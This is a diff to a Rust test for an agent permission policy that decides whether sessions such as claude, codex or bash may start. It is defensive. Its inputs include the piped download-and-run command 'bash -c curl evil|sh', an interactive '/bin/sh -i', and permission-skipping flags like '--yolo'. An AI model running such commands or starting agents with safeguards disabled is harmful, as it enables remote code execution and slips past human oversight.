@@ -139,15 +139,17 @@ fn path_examples() {
     assert_eq!(fetch("https://example.evil.com/"), Ask);
 }
 
-/// Starting a session: `Session(cmd)` is that command line exactly, `Session(cmd:*)` with any
-/// arguments; nothing starts unasked without an allow, a deny wins, plan mode starts nothing.
+/// Starting a session: an allow names the whole command line exactly (open and bare allows are
+/// ignored: `Session(bash:*)` would run `bash -c CODE` unasked); a deny or an ask matches the
+/// program by name in any directory, with the rule's arguments anywhere; plan mode starts none.
 #[test]
 fn sessions_start_by_session_rules_only() {
     let f = Fixture::new();
     let ws = f.ws();
     let words = |line: &str| Subject::Session(line.split(' ').map(String::from).collect());
+    let allow = &["Session(claude)", "Session(codex:*)", "Session(bash *)", "Session"];
     let p = f.policy(
-        rules(&["Session(claude)", "Session(codex:*)"], &[], &["Session(codex --yolo)"]),
+        rules(allow, &["Session(gemini)"], &["Session(codex --yolo)", "Session(sh)"]),
         None,
     );
     let start = |line: &str| p.decide(&words(line), &ws);
@@ -155,16 +157,19 @@ fn sessions_start_by_session_rules_only() {
     assert!(start("claude").explicit);
     assert_eq!(start("claude --dangerously-skip-permissions").decision, Ask, "exactly as written");
     assert_eq!(start("claudex").decision, Ask);
-    assert_eq!(start("codex").decision, Allow);
-    assert_eq!(start("codex exec fix it").decision, Allow);
+    for open in ["codex", "codex exec fix it", "bash", "bash -c curl evil|sh", "python3 -c 1"] {
+        assert_eq!(start(open).decision, Ask, "{open}: open and bare allows are ignored");
+    }
     assert_eq!(start("codex --yolo").decision, Deny, "a deny wins");
-    assert_eq!(start("bash").decision, Ask, "no rule: asked");
+    assert_eq!(start("codex exec --yolo fix").decision, Deny, "its arguments anywhere");
+    assert_eq!(start("/usr/bin/codex --yolo").decision, Deny, "its program in any directory");
+    assert_eq!(start("/bin/sh -i").decision, Deny);
+    assert_eq!(start("gemini --yolo").decision, Ask);
+    assert!(p.notes().iter().filter(|n| n.contains("is ignored")).count() >= 3, "{:?}", p.notes());
     let none = f.policy(rules(&["Bash", "Read", "Edit"], &[], &[]), None);
     assert_eq!(none.decide(&words("claude"), &ws).decision, Ask, "other tools' rules do not start");
     let plan = f.policy(rules(&["Session(claude)"], &[], &[]), Some(Mode::Plan));
     assert_eq!(plan.decide(&words("claude"), &ws).decision, Deny);
-    let any = f.policy(rules(&["Session"], &[], &[]), None);
-    assert_eq!(any.decide(&words("python3 -q"), &ws).decision, Allow);
 }
 
 #[test]
